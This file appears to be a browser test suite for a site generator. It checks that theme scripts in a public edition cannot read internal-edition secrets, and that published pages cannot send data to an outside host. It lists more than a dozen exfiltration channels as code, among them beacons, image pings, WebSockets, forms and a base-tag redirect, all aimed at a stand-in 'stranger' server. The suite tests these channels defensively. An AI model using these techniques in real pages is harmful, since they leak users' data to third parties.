// What a script of a theme can find out of other editions, and whom it can tell: nothing and nobody, but by leaving the page.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { WAYS, stranger } from './foreign.mjs';
import { ITEM, Project, ROOT, SECRET, TODAY, barOf, look, pause, until } from './serving.mjs';
import { Site } from './site.mjs';

const HIDDEN = 'one big control plane'; // of the title that only we know

// Each runs in a page of the public edition, and gives what it could learn of an address.
const READING = {
  ...Object.fromEntries(Object.entries(WAYS).filter(([way]) => !way.startsWith('<'))),
  'a frame': (url) => new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.onload = () => { try { done(frame.contentDocument?.documentElement.textContent || 'refused'); } catch { done('refused'); } };
    frame.src = url;
    document.body.append(frame);
    setTimeout(() => done('refused'), 1500);
  }),
  'a frame that is empty at first': async (url) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const ask = frame.contentWindow.fetch?.bind(frame.contentWindow) ?? fetch;
    return ask(url).then((answer) => answer.text(), () => 'refused');
  },
  'a window': async (url) => {
    const opened = window.open(url);
    await new Promise((done) => setTimeout(done, 700));
    try { return opened?.document?.documentElement.textContent || 'refused'; } catch { return 'refused'; } finally { opened?.close(); }
  },
  'a worker': (url) => new Promise((done) => {
    // Of our own origin, so that it may start; it asks by the bar's worker, if that one takes orders.
    const worker = new Worker('/-/worker.js');
    const end = (what) => { worker.terminate(); done(what); };
    worker.onmessage = ({ data }) => { if (data.state) end(JSON.stringify(data)); };
    worker.onerror = () => end('refused');
    worker.postMessage({ at: new URL(url).pathname, visible: true, wants: true });
    setTimeout(() => end('refused'), 1500);
  }),
};

// Each runs in a published page, and tries to tell a stranger something.
const TELLING = {
  fetch: (to) => fetch(`${to}fetch`, { mode: 'no-cors' }),
  beacon: (to) => navigator.sendBeacon(`${to}beacon`, 'what it says'),
  picture: (to) => { new Image().src = `${to}picture`; },
  script: (to) => document.head.append(Object.assign(document.createElement('script'), { src: `${to}script` })),
  'inline script': (to) => document.head.append(Object.assign(document.createElement('script'), { textContent: `new Image().src = ${JSON.stringify(`${to}inline`)}; window.inlined = true` })),
  style: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${to}style` })),
  prefetch: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${to}prefetch` })),
  'import()': (to) => import(`${to}import`),
  EventSource: (to) => { new EventSource(`${to}events`); },
  WebSocket: (to) => { new WebSocket(`${to.replace('http', 'ws')}socket`); },
  worker: (to) => { new Worker(`${to}worker`); },
  frame: (to) => document.body.append(Object.assign(document.createElement('iframe'), { src: `${to}frame` })),
  'frame with a text of its own': (to) => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<img src="${to}srcdoc">` })),
  object: (to) => document.body.append(Object.assign(document.createElement('object'), { data: `${to}object` })),
  font: (to) => new FontFace('x', `url(${to}font)`).load(),
  form: (to) => {
    const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: `${to}form` }));
    form.submit();
  },
  'base address': (to) => {
    document.head.prepend(Object.assign(document.createElement('base'), { href: to }));
    new Image().src = 'base';
  },
};

/** A theme with a script of its own, which holds functions by name. */
async function withScript(name, ways) {
  const project = await Project.example(name);
  const base = await readFile(path.join(ROOT, 'themes/default/templates/base.html'), 'utf8');
  await project.write('theme/templates/base.html', base.replace('</head>', `<script src="{{ root }}{{ site.assets['own.js'] }}" defer></script>\n</head>`));
  const all = Object.entries(ways).map(([way, run]) => `${JSON.stringify(way)}: ${run}`);
  await project.write('theme/own.js', `window.ways = {\n${all.join(',\n')}\n};\n`);
  return project;
}

/** What the script of a page comes to. It runs as the page does, under its policy. */
const ask = (page, way, url) => page.evaluate(([name, to]) => {
  const run = window.ways[name];
  return Promise.resolve().then(() => run(to)).catch(() => 'refused');
}, [way, url]);

async function served(checks) {
  const { browser } = checks;
  const project = await withScript('script', READING);
  const server = await project.serve();
  const alone = (id) => `http://${id}.localhost:${server.port}`;
  const page = await look(browser, `${server.base}/public/${ITEM}`);

  await checks.that('a script of a theme does not run where editions share an origin', async () => {
    await barOf(page).isLive();
    assert.equal(await page.evaluate(() => typeof window.ways), 'undefined');
    assert.match(await barOf(page).note.textContent(), /Scripts of your theme do not run here/);
  });

  await checks.that('it runs where the edition is alone, and the bar leads there', async () => {
    await barOf(page).link('Run scripts').click();
    await page.waitForURL(`${alone('public')}/${ITEM}`);
    await barOf(page).isLive();
    assert.equal(await page.evaluate(() => typeof window.ways), 'object');
    assert.equal(await barOf(page).host.locator('nav').count(), 0, 'nothing is said of other editions');
  });

  const inside = [`${server.base}/internal/${SECRET}`, `${server.base}/internal/roadmap.json`, `${alone('internal')}/${SECRET}`, `${alone('internal')}/roadmap.json`,
    `${alone('public')}/internal/${SECRET}`, `http://127.0.0.1:${server.port}/internal/${SECRET}`,
    ...[server.base, alone('internal'), alone('public')].flatMap((at) => [`${at}/-/state?at=/internal/${SECRET}`, `${at}/-/explain?at=/${SECRET}`, `${at}/-/explain?at=/internal/${SECRET}`, `${at}/-/events?at=/internal/`])];
  for (const way of Object.keys(READING)) {
    await checks.that(`a script of the public edition reads nothing of the internal one by ${way}`, async () => {
      const long = way.startsWith('a ');
      // A stream never ends, so it is for what waits for no end.
      const urls = inside.filter((url) => way === 'EventSource' || !url.includes('/-/events')).slice(0, long ? 6 : undefined);
      for (const url of urls) {
        const learned = await ask(page, way, url);
        assert.ok(!learned.includes(HIDDEN) && !learned.includes('Northwind internal'), `${url}: ${learned.slice(0, 200)}`);
        // What it asks of its own origin is answered, as by a server that knows one edition alone.
        if (!url.startsWith(alone('public')) && way !== 'a worker') assert.equal(learned, 'refused', url);
      }
      await page.bringToFront();
    });
  }
  await checks.that('what it can ask is told: its own edition', async () => {
    assert.match(await ask(page, 'fetch, cors', `${alone('public')}/${ITEM}`), /Workload identity/);
  });
  await checks.that('where it leads the browser to another edition, it is gone', async () => {
    await page.evaluate((url) => { location.href = `${url}?said=${encodeURIComponent(document.title)}`; }, `${server.base}/internal/${SECRET}`);
    await page.waitForURL(`${server.base}/internal/**`);
    assert.equal(await page.evaluate(() => typeof window.ways), 'undefined');
    assert.deepEqual(await page.evaluate(() => [window.opener, history.state, document.referrer]), [null, null, '']);
  });
  await page.context().close();
  await server.stop();
}

async function published(checks) {
  const project = await withScript('published', TELLING);
  const built = project.run('build', '--today', TODAY);
  assert.equal(built.status, 0, built.stderr);
  const other = await stranger();
  const to = `http://127.0.0.1:${other.port}/`;
  // As on a host that sends the headers, and as on one that knows nothing of them.
  for (const headers of [true, false]) {
    const site = await Site.open('published', path.join(project.folder, 'public'));
    if (!headers) site.files.delete('_headers');
    await site.serve();
    for (const way of Object.keys(TELLING)) {
      await checks.that(`a script of a published page tells nobody by ${way}${headers ? '' : ', without headers of the host'}`, async () => {
        other.asked.length = 0;
        const page = await look(checks.browser, site.origin + site.base + ITEM);
        assert.equal(await page.evaluate((name) => typeof window.ways[name], way), 'function', 'the script runs');
        await Promise.race([ask(page, way, to), pause(400)]);
        await pause(100);
        assert.deepEqual(other.asked, []);
        assert.equal(await page.evaluate(() => window.inlined), undefined);
        assert.ok(page.url().startsWith(site.origin), page.url());
        await page.context().close();
      });
    }
    site.server.close();
  }
  await checks.that('the stranger would have heard of it', async () => {
    const page = await look(checks.browser, to);
    other.asked.length = 0;
    await page.evaluate((url) => { new Image().src = `${url}picture`; }, to);
    await until('it is asked', () => other.asked.includes('/picture'));
    await page.context().close();
  });
  await other.stop();
}

export async function scripts(checks) {
  await served(checks);
  await published(checks);
}
